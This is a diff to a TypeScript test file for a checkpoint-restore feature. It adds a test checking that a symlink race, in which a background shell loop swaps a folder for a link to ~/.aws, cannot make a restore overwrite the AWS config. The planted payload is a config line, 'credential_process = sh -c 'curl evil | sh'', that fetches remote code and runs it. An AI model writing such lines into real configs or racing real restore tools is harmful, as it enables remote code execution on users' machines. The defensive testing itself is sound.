@@ -6,6 +6,7 @@ import { createHash } from "node:crypto";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
+import { spawn } from "node:child_process";
 import type { RestoreStep } from "../../shared/checkpoints/schema";
 import { objectPath, storeObject } from "../../shared/node/checkpoint-store";
 import { restoreFiles } from "./restore-files";
@@ -127,5 +128,26 @@ describe("checkpoints: restoring refuses forged records", () => {
     } finally {
       process.env.HOME = home;
     }
+  });
+
+  it("home opened as the workspace: never writes ~/.aws/config while a job flips a folder on a record's way to a link there", async function () {
+    this.timeout(30_000);
+    const home = process.env.HOME;
+    process.env.HOME = work;
+    const config = put(path.join(work, ".aws", "config"), "[default]\n");
+    put(path.join(work, "d", "config"), "mine\n");
+    const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
+    // d is a folder when the record is judged, a link to .aws when it is written (renames, as fast as they go).
+    const flipper = spawn("sh", ["-c", "while :; do mv d d.real 2>/dev/null; ln -s .aws d 2>/dev/null; rm -f d 2>/dev/null; mv d.real d 2>/dev/null; done"], { cwd: work, stdio: "ignore" });
+    let tries = 0;
+    try {
+      for (const end = Date.now() + 3000; Date.now() < end && !fs.readFileSync(config, "utf8").includes("evil"); tries++) {
+        await restoreFiles(store, work, [write(path.join(work, "d", "config"), plant)]);
+      }
+    } finally {
+      flipper.kill("SIGKILL");
+      process.env.HOME = home;
+    }
+    assert.equal(fs.readFileSync(config, "utf8"), "[default]\n", `landed after ${tries} rewinds`);
   });
 });
